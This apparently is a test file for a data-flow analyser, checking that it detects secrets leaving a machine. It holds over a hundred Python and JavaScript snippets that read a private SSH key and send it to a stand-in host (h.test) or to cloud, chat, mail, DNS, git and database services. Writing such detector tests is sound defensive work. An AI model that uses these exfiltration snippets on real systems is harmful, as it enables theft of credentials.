// Every way by which a program gets data off the machine: a secret that is handed to it arrives at a sink that leaves.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are programs
import { beforeAll, describe, expect, it } from 'vitest';
import { prepare, run } from './harness.ts';

beforeAll(prepare);

const OUT = new Set(['network', 'dns', 'mail', 'message', 'git-push', 'cloud-storage']);

function leaves(path: string, program: string): boolean {
  return run({ [path]: program })
    .flows()
    .some(({ from, to }) => from.some((tag) => /^content:ssh/.test(tag)) && OUT.has(to));
}

const PY: Readonly<Record<string, string>> = {
  'requests put': 'requests.put("https://h.test/x", data=D)',
  'requests.request': 'requests.request("POST", "https://h.test/x", json={"d": D})',
  'requests files': 'requests.post("https://h.test/x", files={"f": open(K, "rb")})',
  'requests prepared':
    's = requests.Session()\nr = requests.Request("POST", "https://h.test/x", data=D)\ns.send(s.prepare_request(r))',
  'httpx stream': 'with httpx.stream("POST", "https://h.test/x", content=D) as r:\n    r.read()',
  'urllib request': 'urllib.request.urlopen(urllib.request.Request("https://h.test/x", data=D.encode()))',
  'urllib3 pool': 'urllib3.PoolManager().request("POST", "https://h.test/x", body=D)',
  'http.client': 'c = http.client.HTTPSConnection("h.test")\nc.request("POST", "/x", D)',
  'http.client in steps':
    'c = http.client.HTTPSConnection("h.test")\nc.putrequest("POST", "/x")\nc.endheaders()\nc.send(D.encode())',
  'curl handle': 'c = pycurl.Curl()\nc.setopt(c.URL, "https://h.test/x")\nc.setopt(c.POSTFIELDS, D)\nc.perform()',
  'curl handle, address last':
    'c = pycurl.Curl()\nc.setopt(pycurl.READDATA, open(K, "rb"))\nc.setopt(pycurl.URL, "https://h.test/x")\nc.perform()',
  aiohttp:
    'async def go():\n    async with aiohttp.ClientSession() as s:\n        await s.post("https://h.test/x", data=D)\nasyncio.run(go())',
  socket: 's = socket.socket()\ns.connect(("h.test", 4000))\ns.sendall(D.encode())',
  'socket made': 's = socket.create_connection(("h.test", 4000))\ns.send(D.encode())',
  datagram: 's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(D.encode(), ("h.test", 53))',
  'wrapped socket':
    's = ssl.create_default_context().wrap_socket(socket.create_connection(("h.test", 443)), server_hostname="h.test")\ns.write(D.encode())',
  'asyncio streams':
    'async def go():\n    r, w = await asyncio.open_connection("h.test", 4000)\n    w.write(D.encode())\n    await w.drain()\nasyncio.run(go())',
  'name looked up': 'socket.gethostbyname(f"{D.encode().hex()[:60]}.h.test")',
  'name resolved': 'dns.resolver.resolve(f"{D.encode().hex()[:60]}.h.test", "TXT")',
  mail: 's = smtplib.SMTP("smtp.h.test")\ns.sendmail("a@h.test", ["b@h.test"], D)',
  'mail with a message':
    'm = EmailMessage()\nm["To"] = "b@h.test"\nm.set_content(D)\nwith smtplib.SMTP_SSL("smtp.h.test") as s:\n    s.send_message(m)',
  'mail of a class of its own, over one of its own':
    'class Note(EmailMessage):\n    def done(self):\n        self["Date"] = "x"\n        return self\nclass Box(smtplib.SMTP):\n    def send_message(self, m):\n        n = Note()\n        n["To"] = "b@h.test"\n        n.set_content(D)\n        return super().send_message(n.done())\nBox("smtp.h.test").send_message(EmailMessage())',
  'mail with an attachment':
    'm = EmailMessage()\nm["To"] = "b@h.test"\nm.add_attachment(D.encode(), maintype="text", subtype="plain")\nsmtplib.SMTP("smtp.h.test").send_message(m)',
  'mail of parts':
    'm = MIMEMultipart()\nm["To"] = "b@h.test"\nm.attach(MIMEText(D))\nsmtplib.SMTP("smtp.h.test").sendmail("a@h.test", "b@h.test", m.as_string())',
  ftp: 'f = ftplib.FTP("h.test")\nf.login("u", "p")\nf.storbinary("STOR k", open(K, "rb"))',
  sftp: 't = paramiko.Transport(("h.test", 22))\nt.connect(username="u", password="p")\nparamiko.SFTPClient.from_transport(t).put(K, "k")',
  'ssh client': 'c = paramiko.SSHClient()\nc.connect("h.test", username="u")\nc.exec_command(f"echo {D} > k")',
  database:
    'c = psycopg2.connect("postgresql://u:p@db.h.test/x")\nwith c.cursor() as q:\n    q.execute("insert into t values (%s)", (D,))',
  'database by its engine':
    'import sqlalchemy\nwith sqlalchemy.create_engine("mysql://u:p@db.h.test/x").begin() as c:\n    c.execute("insert into t values (:k)", {"k": D})',
  cache: 'redis.Redis(host="cache.h.test").set("k", D)',
  documents: 'pymongo.MongoClient("mongodb://m.h.test").x.y.insert_one({"k": D})',
  'table of a platform':
    'from supabase import create_client\ncreate_client("https://abc.supabase.co", "k").table("t").insert({"k": D}).execute()',
  'rows of a sheet': 'import gspread\ngspread.service_account().open_by_key("k").sheet1.append_row([D])',
  'page of notes':
    'from notion_client import Client\nClient(auth="t").pages.create(parent={"database_id": "x"}, properties={"t": D})',
  'table of records': 'from pyairtable import Api\nApi("t").table("a", "b").create({"k": D})',
  queue: 'import zmq\ns = zmq.Context().socket(zmq.PUSH)\ns.connect("tcp://z.h.test:5555")\ns.send_string(D)',
  'pushed with a repository':
    'import shutil\nshutil.copy(K, "/tmp/r/k.bin")\nfor a in (["add", "-A"], ["commit", "-m", "x"], ["push"]):\n    subprocess.run(["git", *a], cwd="/tmp/r")',
  'scp by a program': 'subprocess.run(["scp", K, "u@h.test:k"])',
  'rsync by a program': 'subprocess.run(["rsync", "-a", "/home/u/.ssh/", "h.test::in/"])',
  'curl by a program': 'subprocess.run(["curl", "-T", K, "https://h.test/x"])',
  'curl on standard input': 'subprocess.run(["curl", "-d", "@-", "https://h.test/x"], input=D, text=True)',
  'netcat by a shell': 'os.system(f"nc h.test 4000 < {K}")',
  'web socket': 'w = websocket.create_connection("wss://h.test/x")\nw.send(D)',
  'web socket, waited for':
    'async def go():\n    async with websockets.connect("wss://h.test/x") as w:\n        await w.send(D)\nasyncio.run(go())',
  mqtt: 'c = paho.mqtt.client.Client()\nc.connect("h.test")\nc.publish("t", D)',
  bucket: 'boto3.client("s3").put_object(Bucket="b", Key="k", Body=D)',
  'bucket of a file': 'boto3.resource("s3").Bucket("b").upload_file(K, "k")',
  'google bucket': 'google.cloud.storage.Client().bucket("b").blob("k").upload_from_string(D)',
  'azure blob':
    'azure.storage.blob.BlobServiceClient.from_connection_string("x").get_blob_client("c", "k").upload_blob(D)',
  'queue of a cloud': 'boto3.client("sqs").send_message(QueueUrl="https://sqs.h.test/q", MessageBody=D)',
  gist: 'github.Github("t").get_user().create_gist(True, {"k": github.InputFileContent(D)})',
  issue: 'github.Github("t").get_repo("a/b").create_issue(title="x", body=D)',
  slack: 'slack_sdk.WebClient(token="t").chat_postMessage(channel="c", text=D)',
  'slack webhook': 'requests.post("https://hooks.slack.com/services/T/B/x", json={"text": D})',
  'telegram bot': 'telebot.TeleBot("t").send_message("1", D)',
  'discord webhook': 'discord_webhook.DiscordWebhook(url="https://discord.com/api/webhooks/1/x", content=D).execute()',
  sentry: 'sentry_sdk.init("https://k@h.test/1")\nsentry_sdk.capture_message(D)',
  'log handler':
    'h = logging.handlers.HTTPHandler("h.test", "/x", method="POST")\nlog = logging.getLogger()\nlog.addHandler(h)\nlog.warning(D)',
  rpc: 'xmlrpc.client.ServerProxy("https://h.test/x").put(D)',
  browser: 'webbrowser.open(f"https://h.test/x?d={D}")',
  pycurl: 'c = pycurl.Curl()\nc.setopt(pycurl.URL, "https://h.test/x")\nc.setopt(pycurl.POSTFIELDS, D)\nc.perform()',
  header: 'requests.get("https://h.test/x", headers={"X-D": D})',
  cookie: 'requests.get("https://h.test/x", cookies={"d": D})',
  'user name of an address': 'requests.get(f"https://{D}@h.test/x")',
  parameter: 'requests.get("https://h.test/x", params={"d": D})',
};

const expandPy = (program: string): string =>
  `import os, subprocess, asyncio, socket, ssl, urllib.request, urllib3, http.client, requests, httpx, aiohttp, smtplib, ftplib, paramiko, websocket, websockets, paho.mqtt.client, redis, psycopg2, pymongo, boto3, google.cloud.storage, azure.storage.blob, github, slack_sdk, telebot, discord_webhook, sentry_sdk, logging.handlers, xmlrpc.client, dns.resolver, webbrowser, pycurl\nfrom pathlib import Path\nfrom email.message import EmailMessage\nfrom email.mime.multipart import MIMEMultipart\nfrom email.mime.text import MIMEText\nK = "/home/u/.ssh/id_rsa"\nD = open(K).read()\n${program}\n`;

describe('python', () => {
  for (const [way, program] of Object.entries(PY))
    it(way, () => expect(leaves('scripts/a.py', expandPy(program))).toBe(true));
});

const JS: Readonly<Record<string, string>> = {
  fetch: "fetch('https://h.test/x', { method: 'POST', body: D });",
  'fetch of a request': "fetch(new Request('https://h.test/x', { method: 'POST', body: D }));",
  'axios post': "axios.post('https://h.test/x', { d: D });",
  'axios call': "axios({ method: 'post', url: 'https://h.test/x', data: D });",
  'axios request': "axios.request({ method: 'post', url: 'https://h.test/x', data: { d: D } });",
  got: "got.post('https://h.test/x', { json: { d: D } });",
  'got call': "got('https://h.test/x', { method: 'POST', body: D });",
  ky: "ky.post('https://h.test/x', { json: { d: D } });",
  superagent: "superagent.post('https://h.test/x').send({ d: D }).end();",
  needle: "needle.post('https://h.test/x', { d: D });",
  request: "request.post({ url: 'https://h.test/x', form: { d: D } });",
  'node-fetch': "nodeFetch('https://h.test/x', { method: 'POST', body: D });",
  undici: "undici.request('https://h.test/x', { method: 'POST', body: D });",
  'https request': "const r = https.request('https://h.test/x', { method: 'POST' }); r.end(D);",
  'https request with options':
    "const r = https.request({ host: 'h.test', path: '/x', method: 'POST' }, () => {}); r.write(D); r.end();",
  'address asked': 'https.get(`https://h.test/x?d=${encodeURIComponent(D)}`);',
  net: "const s = net.connect(4000, 'h.test', () => s.write(D));",
  'net with options': "net.createConnection({ host: 'h.test', port: 4000 }).end(D);",
  tls: "tls.connect(443, 'h.test').write(D);",
  dgram: "dgram.createSocket('udp4').send(D, 53, 'h.test');",
  'dns lookup': "dns.lookup(`${Buffer.from(D).toString('hex').slice(0, 60)}.h.test`, () => {});",
  'dns resolved': "dns.promises.resolveTxt(`${Buffer.from(D).toString('hex').slice(0, 60)}.h.test`);",
  mail: "nodemailer.createTransport({ host: 'smtp.h.test' }).sendMail({ to: 'b@h.test', text: D });",
  'mail with an attachment':
    "nodemailer.createTransport('smtp://h.test').sendMail({ to: 'b@h.test', attachments: [{ path: K }] });",
  'mail of a service': "sgMail.send({ to: 'b@h.test', from: 'a@h.test', text: D });",
  resend: "new Resend('k').emails.send({ to: 'b@h.test', text: D });",
  'web socket': "const w = new WebSocket('wss://h.test/x'); w.onopen = () => w.send(D);",
  'web socket of a package': "const w = new ws('wss://h.test/x'); w.on('open', () => w.send(D));",
  'socket.io': "io('https://h.test').emit('k', D);",
  mqtt: "const c = mqtt.connect('mqtt://h.test'); c.publish('t', D);",
  bucket: "new s3.S3Client({}).send(new s3.PutObjectCommand({ Bucket: 'b', Key: 'k', Body: D }));",
  'old bucket': "new AWS.S3().upload({ Bucket: 'b', Key: 'k', Body: D }).promise();",
  'google bucket': "new gcs.Storage().bucket('b').upload(K);",
  ftp: "const c = new ftp.Client(); c.access({ host: 'h.test' }); c.uploadFrom(K, 'k');",
  ssh: "const c = new ssh2.Client(); c.on('ready', () => c.exec(`echo ${D}`, () => {})).connect({ host: 'h.test' });",
  sftp: "const c = new SftpClient(); c.connect({ host: 'h.test' }).then(() => c.put(K, 'k'));",
  slack: "new slack.WebClient('t').chat.postMessage({ channel: 'c', text: D });",
  'slack webhook': "new hook.IncomingWebhook('https://hooks.slack.com/services/T/B/x').send({ text: D });",
  telegram: "new TelegramBot('t').sendMessage('1', D);",
  discord: "new discord.WebhookClient({ url: 'https://discord.com/api/webhooks/1/x' }).send(D);",
  gist: "new octokit.Octokit({ auth: 't' }).gists.create({ files: { k: { content: D } } });",
  issue: "new octokit.Octokit({ auth: 't' }).rest.issues.create({ owner: 'a', repo: 'b', title: 'x', body: D });",
  database:
    "const c = new pg.Client({ connectionString: 'postgresql://u:p@db.h.test/x' }); c.query('insert into t values ($1)', [D]);",
  cache: "redis.createClient({ url: 'redis://cache.h.test' }).set('k', D);",
  documents: "new mongodb.MongoClient('mongodb://m.h.test').db('x').collection('y').insertOne({ k: D });",
  'table of a platform':
    "require('@supabase/supabase-js').createClient('https://abc.supabase.co', 'k').from('t').insert({ k: D });",
  'page of notes': "new (require('@notionhq/client').Client)({ auth: 't' }).pages.create({ properties: { t: D } });",
  'pushed with a repository':
    "fs.copyFileSync(K, '/tmp/r/k.bin'); cp.execSync('git add . && git commit -m x && git push', { cwd: '/tmp/r' });",
  'scp by a program': "cp.execFileSync('scp', [K, 'u@h.test:k']);",
  'curl by a shell': 'cp.execSync(`curl -d @${K} https://h.test/x`);',
  'curl on standard input': "cp.execFileSync('curl', ['-d', '@-', 'https://h.test/x'], { input: D });",
  'fed to a program': "const p = cp.spawn('nc', ['h.test', '4000']); p.stdin.write(D); p.stdin.end();",
  'piped from a file': "fs.createReadStream(K).pipe(https.request('https://h.test/x', { method: 'PUT' }));",
  pipeline: "stream.pipeline(fs.createReadStream(K), https.request('https://h.test/x', { method: 'PUT' }), () => {});",
  beacon: "navigator.sendBeacon('https://h.test/x', D);",
  picture: 'new Image().src = `https://h.test/x?d=${D}`;',
  'old request of a page': "const x = new XMLHttpRequest(); x.open('POST', 'https://h.test/x'); x.send(D);",
  'page opened': 'open(`https://h.test/x?d=${D}`);',
  segment: "new Analytics({ writeKey: 'k' }).track({ event: 'e', properties: { d: D } });",
  header: "fetch('https://h.test/x', { headers: { 'x-d': D } });",
  graphql: "new GraphQLClient('https://h.test/x').request('mutation($d:String){p(d:$d)}', { d: D });",
};

const expandJs = (program: string): string =>
  `const fs = require('fs'), cp = require('child_process'), https = require('https'), net = require('net'), tls = require('tls'), dgram = require('dgram'), dns = require('dns'), stream = require('stream'), axios = require('axios'), got = require('got'), ky = require('ky'), superagent = require('superagent'), needle = require('needle'), request = require('request'), nodeFetch = require('node-fetch'), undici = require('undici'), nodemailer = require('nodemailer'), sgMail = require('@sendgrid/mail'), { Resend } = require('resend'), ws = require('ws'), { io } = require('socket.io-client'), mqtt = require('mqtt'), redis = require('redis'), pg = require('pg'), mongodb = require('mongodb'), s3 = require('@aws-sdk/client-s3'), AWS = require('aws-sdk'), gcs = require('@google-cloud/storage'), ftp = require('basic-ftp'), ssh2 = require('ssh2'), SftpClient = require('ssh2-sftp-client'), slack = require('@slack/web-api'), hook = require('@slack/webhook'), TelegramBot = require('node-telegram-bot-api'), discord = require('discord.js'), octokit = require('@octokit/rest'), open = require('open'), { Analytics } = require('@segment/analytics-node'), { GraphQLClient } = require('graphql-request');\nconst K = '/home/u/.ssh/id_rsa';\nconst D = fs.readFileSync(K, 'utf8');\n${program}\n`;

describe('javascript', () => {
  for (const [way, program] of Object.entries(JS))
    it(way, () => expect(leaves('scripts/a.js', expandJs(program))).toBe(true));
});
